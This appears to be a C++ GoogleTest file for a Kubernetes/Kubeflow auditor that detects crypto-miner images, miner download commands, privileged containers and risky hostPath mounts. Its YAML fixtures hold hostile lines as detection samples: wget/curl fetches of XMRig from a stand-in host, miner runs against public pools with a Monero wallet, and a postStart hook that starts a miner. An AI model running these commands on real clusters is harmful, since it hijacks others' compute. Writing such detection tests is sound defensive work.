// check_workloads(): miner images and commands (the 2020 and 2021 Kubeflow campaigns, in the
// kinds they used), registries, tags, privileges, host namespaces and host paths; and no false
// positive on the stock Kubeflow install or the Kubeflow examples.
#include <gtest/gtest.h>

#include <cctype>
#include <filesystem>
#include <initializer_list>
#include <optional>
#include <set>
#include <string>
#include <tuple>
#include <vector>

#include "kube/workload_checks.hpp"
#include "kube_test_support.hpp"

namespace mg::kube {
namespace {

using namespace testing;
using core::Category;
using core::Severity;

// A Monero address as the pool user: the payout address in every XMRig command line. This is the
// Monero project's published (old) donation address, a valid standard address.
constexpr std::string_view kWallet =
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

Findings run(std::vector<Object> objects, AuditOptions options = {}) {
  return run_check(check_workloads, std::move(objects), std::move(options));
}

Findings run(std::string_view yaml, AuditOptions options = {}) { return run(objects_of(yaml), std::move(options)); }

// --- the rule list ----------------------------------------------------------------------------

TEST(WorkloadRules, EveryRuleIsDescribed) {
  const auto rules = workload_rules();
  ASSERT_EQ(rules.size(), 7u);
  std::set<std::string> ids;
  for (const auto& info : rules) {
    SCOPED_TRACE(info.id);
    EXPECT_TRUE(ids.insert(info.id).second);
    EXPECT_TRUE(info.id.starts_with("MG-KUBE-02"));
    EXPECT_FALSE(info.name.empty());
    EXPECT_TRUE(std::isupper(static_cast<unsigned char>(info.name.front())));
    EXPECT_FALSE(info.title.empty());
    EXPECT_GT(info.description.size(), 80u);
    EXPECT_FALSE(info.remediation.empty());
    EXPECT_FALSE(info.techniques.empty());
  }
  EXPECT_TRUE(ids.contains(std::string(kRuleMinerImage)));
  EXPECT_TRUE(ids.contains(std::string(kRuleHostPath)));
}

// --- MG-KUBE-020 known miner image ------------------------------------------------------------

TEST(MinerImage, The2020KubeflowCampaignTfJob) {
  const auto findings = run(R"(apiVersion: kubeflow.org/v1
kind: TFJob
metadata: {name: tfjob-x, namespace: kubeflow-user-example-com}
spec:
  tfReplicaSpecs:
    Worker:
      template:
        spec:
          nodeSelector: {accelerator: nvidia-tesla-v100}
          containers:
          - name: tensorflow
            image: ddsfdfsaadfs/dfsdf:99
)");
  const auto miner = of_rule(findings, kRuleMinerImage);
  ASSERT_EQ(miner.size(), 1u) << describe(findings);
  EXPECT_EQ(miner[0].severity, Severity::critical);
  EXPECT_EQ(miner[0].category, Category::miner);
  EXPECT_EQ(miner[0].source, core::Source::manifest);
  EXPECT_EQ(where(miner[0]).kind, "TFJob");
  EXPECT_EQ(where(miner[0]).field, "spec.tfReplicaSpecs.Worker.template.spec.containers[0].image");
  EXPECT_EQ(where(miner[0]).line, 12);
  EXPECT_TRUE(has_evidence(miner[0], "image.kubeflow-campaign"));
  EXPECT_TRUE(has_evidence(miner[0], "ddsfdfsaadfs/dfsdf:99"));
}

TEST(MinerImage, NotebookAndXmrigImagesWithRegistries) {
  const auto findings = run(R"(apiVersion: kubeflow.org/v1
kind: Notebook
metadata: {name: nb, namespace: u}
spec:
  template:
    spec:
      initContainers:
      - {name: a, image: "docker.io/ddsfdfsaadfs/dfsdf:99"}
      containers:
      - {name: b, image: "ghcr.io/metal3d/xmrig:latest"}
      - {name: c, image: "tensorflow/tensorflow:2.15.0-gpu"}
      - {name: d, image: "jupyter/scipy-notebook@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"}
)");
  const auto miner = of_rule(findings, kRuleMinerImage);
  ASSERT_EQ(miner.size(), 2u) << describe(findings);
  EXPECT_EQ(where(miner[0]).field, "spec.template.spec.initContainers[0].image");
  EXPECT_EQ(where(miner[1]).field, "spec.template.spec.containers[0].image");
  EXPECT_TRUE(has_evidence(miner[1], "image.metal3d-xmrig"));
}

// --- MG-KUBE-021 miner command ----------------------------------------------------------------

std::string tf_pod_with_command(std::string_view command) {
  return std::string(R"(apiVersion: kubeflow.org/v1
kind: TFJob
metadata: {name: train, namespace: u}
spec:
  tfReplicaSpecs:
    Worker:
      template:
        spec:
          containers:
          - name: tensorflow
            image: tensorflow/tensorflow:2.15.0-gpu
            command: [sh, -c]
            args:
            - ")") + std::string(command) + "\"\n";
}

TEST(MinerCommand, The2021CampaignGenuineImageDownloadsXmrig) {
  const auto findings = run(tf_pod_with_command(
      "wget https://x.example/xmrig-6.21.0-linux-x64.tar.gz && tar xf xmrig-6.21.0-linux-x64.tar.gz && "
      "./xmrig-6.21.0/xmrig -o pool.supportxmr.com:443 -u " + std::string(kWallet) + " -p x --donate-level 1"));
  EXPECT_TRUE(of_rule(findings, kRuleMinerImage).empty()) << "the image is genuine";
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 1u) << describe(findings);
  EXPECT_EQ(command[0].severity, Severity::critical);
  EXPECT_EQ(command[0].category, Category::miner);
  EXPECT_EQ(where(command[0]).field, "spec.tfReplicaSpecs.Worker.template.spec.containers[0].command");
  EXPECT_EQ(where(command[0]).line, 12);
  EXPECT_TRUE(has_evidence(command[0], "dropper.download-miner-archive"));
  EXPECT_TRUE(has_evidence(command[0], "score"));
  EXPECT_TRUE(has_evidence(command[0], "tensorflow/tensorflow:2.15.0-gpu"));
}

TEST(MinerCommand, StratumPoolAndAlgorithmAreAMiner) {
  const auto findings = run(tf_pod_with_command("/opt/app/run -o stratum+tcp://203.0.113.7:3333 -a rx/0"));
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 1u) << describe(findings);
  EXPECT_EQ(command[0].severity, Severity::critical) << describe(command);
}

TEST(MinerCommand, DownloadOnlyIsADropper) {
  const auto findings = run(tf_pod_with_command("curl -sL https://x.example/bin/xmrig -o /tmp/.cache/k && chmod +x /tmp/.cache/k"));
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 1u) << describe(findings);
  EXPECT_EQ(command[0].severity, Severity::high);
  EXPECT_EQ(command[0].category, Category::dropper);
}

TEST(MinerCommand, PoolFlagsAloneAreSuspicious) {
  // A mining algorithm on a command line, nothing else: worth a look, not a verdict.
  const auto findings = run(tf_pod_with_command("/opt/app/run -a rx/0 --epochs 3"));
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 1u) << describe(findings);
  EXPECT_EQ(command[0].severity, Severity::medium) << describe(command);
  EXPECT_EQ(command[0].category, Category::miner);
}

TEST(MinerCommand, WalletInEnvAndPoolInArgsAreOneMiner) {
  const auto findings = run(R"(apiVersion: apps/v1
kind: Deployment
metadata: {name: d, namespace: u}
spec:
  template:
    spec:
      containers:
      - name: worker
        image: ubuntu:22.04
        command: [/usr/local/bin/xmrig]
        args: [-o, "pool.supportxmr.com:443", "--tls"]
        env:
        - {name: WALLET, value: ")" + std::string(kWallet) + R"("}
)");
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 1u) << describe(findings);
  EXPECT_EQ(command[0].severity, Severity::critical);
}

TEST(MinerCommand, ArgoScriptSourceLifecycleHookAndWorkflowArguments) {
  const auto findings = run(R"(apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {name: wf, namespace: u}
spec:
  entrypoint: main
  arguments:
    parameters:
    - name: cmd
      value: "wget -q https://x.example/xmrig-6.21.0-linux-static-x64.tar.gz; ./xmrig -o pool.minexmr.com:4444 -u )" +
                            std::string(kWallet) + R"("
  templates:
  - name: main
    script:
      image: python:3.12
      command: [bash]
      source: |
        curl -s https://x.example/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz
        nohup ./xmrig --donate-level 1 -o pool.supportxmr.com:443 -u )" +
                            std::string(kWallet) + R"( &
  - name: hooked
    container:
      image: alpine:3.19
      command: ["{{workflow.parameters.cmd}}"]
      lifecycle:
        postStart:
          exec:
            command: [sh, -c, "nohup /tmp/xmrig -o stratum+tcp://pool.example.net:3333 -u )" +
                            std::string(kWallet) + R"( &"]
)");
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 3u) << describe(findings);
  std::set<std::string> fields;
  for (const auto& finding : command) {
    EXPECT_EQ(finding.severity, Severity::critical) << describe(finding);
    fields.insert(where(finding).field);
  }
  EXPECT_TRUE(fields.contains("spec.templates[0].script.source")) << describe(findings);
  EXPECT_TRUE(fields.contains("spec.templates[1].container.lifecycle.postStart.exec.command")) << describe(findings);
  EXPECT_TRUE(fields.contains("spec.arguments.parameters[0].value")) << describe(findings);
}

TEST(MinerCommand, ParametersOfAWorkflowSubmittedFromATemplate) {
  // `argo submit --from workflowtemplate/train -p cmd=…`: the Workflow has no templates of its own.
  const auto findings = run(R"(apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {generateName: train-, namespace: u}
spec:
  workflowTemplateRef: {name: train}
  arguments:
    parameters:
    - {name: epochs, value: "3"}
    - {name: cmd, value: "curl -sO https://x.example/xmrig-6.21.0-linux-static-x64.tar.gz && tar xzf xmrig-6.21.0-linux-static-x64.tar.gz && ./xmrig -o pool.supportxmr.com:443 -u )" +
                            std::string(kWallet) + R"("}
)");
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 1u) << describe(findings);
  EXPECT_EQ(command[0].severity, Severity::critical);
  EXPECT_EQ(where(command[0]).field, "spec.arguments.parameters[1].value");
}

TEST(MinerCommand, KfpComponentImplementationIsRead) {
  // A KFP v2 pipeline whose component runs a miner: the command is only in the workflow's
  // parameters, the executor template says "should-be-overridden-during-runtime".
  std::string yaml = kubeflow_example("argo-workflow-kfp-hello-world.yaml");
  const std::string benign = R"('{"args":["hello world"],"command":["echo"],"image":"registry.access.redhat.com/ubi9/python-311:latest"}')";
  const auto at = yaml.find(benign);
  ASSERT_NE(at, std::string::npos);
  yaml.replace(at, benign.size(),
               R"('{"command":["sh","-c","wget https://x.example/xmrig-6.21.0-linux-x64.tar.gz && tar xf x.tgz && ./xmrig -o pool.supportxmr.com:443 -u )" +
                   std::string(kWallet) + R"("],"image":"tensorflow/tensorflow:latest-gpu"}')");
  const auto findings = run(yaml);
  const auto command = of_rule(findings, kRuleMinerCommand);
  ASSERT_EQ(command.size(), 1u) << describe(findings);
  EXPECT_EQ(command[0].severity, Severity::critical);
  EXPECT_EQ(where(command[0]).field, "spec.arguments.parameters[1].value");
  EXPECT_EQ(where(command[0]).line, 11);
}

TEST(MinerCommand, BenignCommandsSayNothing) {
  const auto findings = run(R"(apiVersion: apps/v1
kind: Deployment
metadata: {name: d, namespace: u}
spec:
  template:
    spec:
      containers:
      - name: app
        image: python:3.12
        command: [sh, -c]
        args: ["pip install -r requirements.txt && curl -fsSL https://get.example.com/install.sh | sh && python -m http.server -b 0.0.0.0 8080"]
        env:
        - {name: SERVER, value: "-o api.example.com:443"}
)");
  EXPECT_TRUE(of_rule(findings, kRuleMinerCommand).empty()) << describe(findings);
}

// --- MG-KUBE-022 allowed registries -----------------------------------------------------------

TEST(ImageReference, ResolvesAsDockerDoes) {
  // A part left out (nullopt) is not checked for that reference.
  struct Case {
    std::string_view image;
    std::string_view registry;
    std::optional<std::string_view> repository = {}, tag = {}, digest = {};
  };
  for (const Case& expected : std::initializer_list<Case>{
           {"nginx", "docker.io", "library/nginx", ""},
           {"kubeflownotebookswg/jupyter:v1.9.0", "docker.io", "kubeflownotebookswg/jupyter", "v1.9.0"},
           {"GHCR.io/kubeflow/kfp-driver:latest", "ghcr.io", "kubeflow/kfp-driver"},
           {"localhost:5000/team/app", "localhost:5000", "team/app", ""},
           {"localhost/app:1", "localhost"},
           {"index.docker.io/library/busybox:1.36@sha256:abc", "docker.io", "library/busybox", "1.36", "sha256:abc"},
       }) {
    SCOPED_TRACE(expected.image);
    const auto ref = parse_image_reference(expected.image);
    EXPECT_EQ(ref.registry, expected.registry);
    if (expected.repository) { EXPECT_EQ(ref.repository, *expected.repository); }
    if (expected.tag) { EXPECT_EQ(ref.tag, *expected.tag); }
    if (expected.digest) { EXPECT_EQ(ref.digest, *expected.digest); }
  }
}

TEST(ImageReference, AllowEntries) {
  const auto ghcr = parse_image_reference("ghcr.io/kubeflow/kubeflow/notebook-servers/jupyter:v1.10.0");
  EXPECT_TRUE(registry_allowed(ghcr, "ghcr.io"));
  EXPECT_TRUE(registry_allowed(ghcr, "ghcr.io/kubeflow"));
  EXPECT_TRUE(registry_allowed(ghcr, "https://ghcr.io/kubeflow/"));
  EXPECT_FALSE(registry_allowed(ghcr, "ghcr.io/kube"));  // path components, not string prefixes
  EXPECT_FALSE(registry_allowed(ghcr, "gcr.io"));
  const auto hub = parse_image_reference("kubeflownotebookswg/jupyter-scipy:v1.9.0");
  EXPECT_TRUE(registry_allowed(hub, "docker.io/kubeflownotebookswg"));
  EXPECT_TRUE(registry_allowed(hub, "kubeflownotebookswg"));
  EXPECT_TRUE(registry_allowed(hub, "index.docker.io"));
  EXPECT_FALSE(registry_allowed(hub, "docker.io/kubeflow"));
  const auto official = parse_image_reference("nginx:1.25");
  EXPECT_TRUE(registry_allowed(official, "docker.io/library"));
  EXPECT_TRUE(registry_allowed(official, "docker.io/nginx"));
  const auto gcr = parse_image_reference("us.gcr.io/ml-pipeline/frontend:2.0");
  EXPECT_TRUE(registry_allowed(gcr, "*.gcr.io"));
  EXPECT_TRUE(registry_allowed(gcr, "*.gcr.io/ml-pipeline"));
  EXPECT_FALSE(registry_allowed(gcr, "*.gcr.io/other"));
  EXPECT_FALSE(registry_allowed(parse_image_reference("gcr.io/x/y:1"), "*.gcr.io"));  // a wildcard needs a label
  EXPECT_FALSE(registry_allowed(parse_image_reference("evilgcr.io/x:1"), "*.gcr.io"));
  EXPECT_FALSE(registry_allowed(gcr, ""));
}

TEST(UnapprovedRegistry, OnlyWhenAListIsGiven) {
  constexpr std::string_view kYaml = R"(apiVersion: v1
kind: Pod
metadata: {name: p, namespace: u}
spec:
  containers:
  - {name: a, image: "ghcr.io/kubeflow/kfp-driver:2.5.0"}
  - {name: b, image: "ddsfdfsaadfs/dfsdf:99"}
  - {name: c, image: "{{inputs.parameters.image}}"}
)";
  EXPECT_TRUE(of_rule(run(kYaml), kRuleUnapprovedRegistry).empty());
  AuditOptions options;
  options.allowed_registries = {"ghcr.io/kubeflow", "*.gcr.io"};
  const auto findings = of_rule(run(kYaml, options), kRuleUnapprovedRegistry);
  ASSERT_EQ(findings.size(), 1u) << describe(findings);
  EXPECT_EQ(findings[0].severity, Severity::medium);
  EXPECT_EQ(where(findings[0]).field, "spec.containers[1].image");
  EXPECT_TRUE(has_evidence(findings[0], "docker.io/ddsfdfsaadfs/dfsdf"));
}

// --- MG-KUBE-023 tags -------------------------------------------------------------------------

TEST(MutableTag, InfoForATagLowForLatestNothingForADigest) {
  const auto findings = of_rule(run(R"(apiVersion: v1
kind: Pod
metadata: {name: p, namespace: u}
spec:
  containers:
  - {name: a, image: "ghcr.io/kubeflow/kfp-driver:2.5.0"}
  - {name: b, image: "ghcr.io/kubeflow/kfp-driver:latest"}
  - {name: c, image: "busybox"}
  - {name: d, image: "busybox:1.36@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"}
  - {name: e, image: "{{inputs.parameters.image}}"}
  - {name: f}
)"),
                                kRuleMutableImageTag);
  ASSERT_EQ(findings.size(), 3u) << describe(findings);
  EXPECT_EQ(findings[0].severity, Severity::info);
  EXPECT_EQ(where(findings[0]).field, "spec.containers[0].image");
  EXPECT_EQ(findings[1].severity, Severity::low);
  EXPECT_EQ(findings[2].severity, Severity::low);
  EXPECT_TRUE(has_evidence(findings[2], "none (Docker pulls latest)"));
}

TEST(MutableTag, OneFindingPerImageOnItsFirstUse) {
  const auto findings = of_rule(run(R"(apiVersion: v1
kind: Pod
metadata: {name: first, namespace: u}
spec:
  containers:
  - {name: a, image: "ghcr.io/kubeflow/kfp-driver:2.5.0"}
---
apiVersion: v1
kind: Pod
metadata: {name: second, namespace: u}
spec:
  containers:
  - {name: a, image: "ghcr.io/kubeflow/kfp-driver:2.5.0"}
  - {name: b, image: "ghcr.io/kubeflow/kfp-launcher:2.5.0"}
)"),
                                kRuleMutableImageTag);
  ASSERT_EQ(findings.size(), 2u) << describe(findings);
  EXPECT_EQ(where(findings[0]).name, "first");
  EXPECT_TRUE(has_evidence(findings[0], "1 more container(s): Pod u/second"));
  EXPECT_EQ(where(findings[1]).name, "second");
  EXPECT_EQ(where(findings[1]).field, "spec.containers[1].image");
}

// --- MG-KUBE-024 privileges -------------------------------------------------------------------

TEST(PrivilegedContainer, PrivilegedAndCapabilities) {
  const auto findings = of_rule(run(R"(apiVersion: apps/v1
kind: DaemonSet
metadata: {name: ds, namespace: u}
spec:
  template:
    spec:
      containers:
      - name: priv
        image: x:1
        securityContext: {privileged: true}
      - name: sysadmin
        image: x:1
        securityContext:
          allowPrivilegeEscalation: true
          capabilities: {add: [CAP_SYS_ADMIN, NET_ADMIN]}
      - name: netadmin
        image: x:1
        securityContext: {capabilities: {add: [NET_ADMIN]}}
      - name: baseline
        image: x:1
        securityContext: {privileged: false, capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}}
      - name: plain
        image: x:1
)"),
                                kRulePrivilegedContainer);
  ASSERT_EQ(findings.size(), 3u) << describe(findings);
  EXPECT_EQ(findings[0].severity, Severity::high);
  EXPECT_EQ(where(findings[0]).field, "spec.template.spec.containers[0].securityContext.privileged");
  EXPECT_EQ(where(findings[0]).line, 10);
  EXPECT_EQ(findings[1].severity, Severity::high);
  EXPECT_EQ(where(findings[1]).field, "spec.template.spec.containers[1].securityContext.capabilities.add");
  EXPECT_TRUE(has_evidence(findings[1], "SYS_ADMIN, NET_ADMIN"));
  EXPECT_EQ(findings[2].severity, Severity::medium);
  EXPECT_EQ(findings[2].category, Category::privilege);
}

// --- MG-KUBE-025 host namespaces --------------------------------------------------------------

TEST(HostNamespaces, SeverityByFlag) {
  const auto findings = of_rule(run(R"(apiVersion: v1
kind: Pod
metadata: {name: pid, namespace: u}
spec: {hostPID: true, hostIPC: true, containers: [{name: c, image: x:1}]}
---
apiVersion: v1
kind: Pod
metadata: {name: net, namespace: u}
spec: {hostNetwork: true, containers: [{name: c, image: x:1}]}
---
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {name: wf, namespace: u}
spec:
  hostNetwork: true
  templates: [{name: a, container: {image: x:1}}, {name: b, container: {image: x:1}}]
---
apiVersion: v1
kind: Pod
metadata: {name: plain, namespace: u}
spec: {hostNetwork: false, containers: [{name: c, image: x:1}]}
)"),
                                kRuleHostNamespaces);
  ASSERT_EQ(findings.size(), 4u) << describe(findings);
  EXPECT_EQ(findings[0].severity, Severity::high);
  EXPECT_EQ(where(findings[0]).field, "spec.hostPID");
  EXPECT_TRUE(has_evidence(findings[0], "hostIPC"));
  EXPECT_EQ(findings[1].severity, Severity::medium);
  EXPECT_EQ(where(findings[1]).field, "spec.hostNetwork");
  EXPECT_EQ(where(findings[1]).line, 9);
  EXPECT_EQ(where(findings[2]).kind, "Workflow");  // one per template that starts a pod
  EXPECT_EQ(where(findings[2]).field, "spec.hostNetwork");
  EXPECT_EQ(where(findings[3]).name, "wf");
}

// --- MG-KUBE-026 hostPath ---------------------------------------------------------------------

TEST(HostPath, SensitivePathsAreHigh) {
  const auto findings = of_rule(run(R"(apiVersion: v1
kind: Pod
metadata: {name: sock, namespace: u}
spec:
  volumes:
  - {name: logs, hostPath: {path: /var/log}}
  - {name: docker, hostPath: {path: /var/run/docker.sock, type: Socket}}
  containers:
  - name: c
    image: x:1
    volumeMounts: [{name: logs, mountPath: /logs, readOnly: true}, {name: docker, mountPath: /var/run/docker.sock}]
---
apiVersion: v1
kind: Pod
metadata: {name: logs, namespace: u}
spec:
  volumes: [{name: logs, hostPath: {path: /var/log/pods/}}]
  containers: [{name: c, image: x:1, volumeMounts: [{name: logs, mountPath: /logs}]}]
---
apiVersion: v1
kind: Pod
metadata: {name: unused, namespace: u}
spec:
  volumes: [{name: root, hostPath: {path: /}}]
  containers: [{name: c, image: x:1}]
---
apiVersion: v1
kind: Pod
metadata: {name: tricky, namespace: u}
spec:
  volumes: [{name: etc, hostPath: {path: /data/../etc/}}]
  containers: [{name: c, image: x:1, volumeMounts: [{name: etc, mountPath: /e, readOnly: true}]}]
)"),
                                kRuleHostPath);
  ASSERT_EQ(findings.size(), 4u) << describe(findings);
  EXPECT_EQ(findings[0].severity, Severity::high);
  EXPECT_EQ(where(findings[0]).field, "spec.volumes[1]");
  EXPECT_TRUE(has_evidence(findings[0], "/var/log (read-only, volume logs)"));
  EXPECT_TRUE(has_evidence(findings[0], "/var/run/docker.sock (read-write, volume docker)"));
  EXPECT_EQ(findings[1].severity, Severity::medium);
  EXPECT_EQ(findings[2].severity, Severity::low);  // declared, mounted by no container
  EXPECT_TRUE(has_evidence(findings[2], "not mounted"));
  EXPECT_EQ(findings[3].severity, Severity::high);  // /etc, however it is spelled
}

// --- Kubeflow: the stock install and the examples -----------------------------------------------

TEST(KubeflowInstallWorkloads, WorkloadFindingsAnOperatorAgreesWith) {
  auto objects = kubeflow_install();
  ASSERT_EQ(objects.size(), 683u);
  const auto findings = run(std::move(objects));

  std::set<std::tuple<std::string, std::string, std::string>> notable;  // rule, object, field
  int tag_findings = 0;
  for (const auto& finding : findings) {
    if (finding.rule_id == kRuleMutableImageTag && finding.severity == Severity::info) {
      ++tag_findings;
      continue;
    }
    const auto& at = where(finding);
    notable.emplace(finding.rule_id, at.kind + " " + at.namespace_ + "/" + at.name, at.field);
  }
  const std::set<std::tuple<std::string, std::string, std::string>> expected{
      // Istio's CNI node agent (install-cni) adds SYS_ADMIN, SYS_PTRACE, NET_ADMIN, NET_RAW and
      // DAC_OVERRIDE and runs as root: it rewrites pod networking on every node. It needs that,
      // and that is exactly why whoever can change this DaemonSet owns every node: an operator
      // keeps it, and keeps kube-system writable by administrators only.
      {"MG-KUBE-024", "DaemonSet kube-system/istio-cni-node",
       "spec.template.spec.containers[0].securityContext.capabilities.add"},
      // The same agent mounts the node's CNI binary and config directories read-write (the
      // container runtime executes what is written to /opt/cni/bin as root) and the node's /proc:
      // required for a CNI plugin, and a way onto the node for anyone who controls the pod.
      {"MG-KUBE-026", "DaemonSet kube-system/istio-cni-node", "spec.template.spec.volumes[0]"},
  };
  EXPECT_EQ(notable, expected) << describe(findings);
  // 55 containers in 51 pod templates; 6 are pinned by digest, the other 49 name a version tag
  // (none uses latest): each is worth knowing, none is a problem. They are 47 distinct images
  // (two are used twice), and the finding is per image.
  EXPECT_EQ(tag_findings, 47) << describe(findings);
  EXPECT_TRUE(of_rule(findings, kRuleMinerImage).empty());
  EXPECT_TRUE(of_rule(findings, kRuleMinerCommand).empty());
  const auto privileged = of_rule(findings, kRulePrivilegedContainer);
  ASSERT_EQ(privileged.size(), 1u);
  EXPECT_EQ(privileged[0].severity, Severity::high);
  EXPECT_EQ(where(privileged[0]).file, "kubeflow-install.yaml");
  EXPECT_GT(where(privileged[0]).line, 214366);
  const auto host_path = of_rule(findings, kRuleHostPath);
  ASSERT_EQ(host_path.size(), 1u);
  EXPECT_EQ(host_path[0].severity, Severity::high);
  EXPECT_TRUE(has_evidence(host_path[0], "/proc (read-only, volume cni-host-procfs)"));
  EXPECT_TRUE(has_evidence(host_path[0], "/var/run/netns (not mounted, volume cni-netns-dir)"));
}

TEST(KubeflowInstallWorkloads, AllowListOfTheRegistriesKubeflowUses) {
  // With the registries the stock install pulls from allowed, nothing is outside the list.
  AuditOptions options;
  options.allowed_registries = {"ghcr.io",     "docker.io",   "gcr.io",  "*.gcr.io", "quay.io",
                                "registry.k8s.io", "nvcr.io", "*.pkg.dev"};
  const auto findings = run(kubeflow_install(), options);
  EXPECT_TRUE(of_rule(findings, kRuleUnapprovedRegistry).empty()) << describe(of_rule(findings, kRuleUnapprovedRegistry));
  // And with only ghcr.io/kubeflow allowed, the Istio, Knative, cert-manager… images are not.
  options.allowed_registries = {"ghcr.io/kubeflow"};
  const auto strict = of_rule(run(kubeflow_install(), options), kRuleUnapprovedRegistry);
  EXPECT_GT(strict.size(), 10u);
}

TEST(KubeflowExamplesWorkloads, NoMinerFindings) {
  std::vector<Object> objects;
  for (const auto& entry : std::filesystem::directory_iterator(kubeflow_data("examples"))) {
    auto more = objects_of(read_text(entry.path().string()), entry.path().filename().string());
    for (auto& object : more) objects.push_back(std::move(object));
  }
  ASSERT_GE(objects.size(), 9u);
  const auto findings = run(std::move(objects));
  EXPECT_TRUE(of_rule(findings, kRuleMinerImage).empty()) << describe(findings);
  EXPECT_TRUE(of_rule(findings, kRuleMinerCommand).empty()) << describe(findings);
  EXPECT_TRUE(of_rule(findings, kRulePrivilegedContainer).empty()) << describe(findings);
  EXPECT_TRUE(of_rule(findings, kRuleHostPath).empty()) << describe(findings);
  EXPECT_TRUE(of_rule(findings, kRuleHostNamespaces).empty()) << describe(findings);
}

}  // namespace
}  // namespace mg::kube
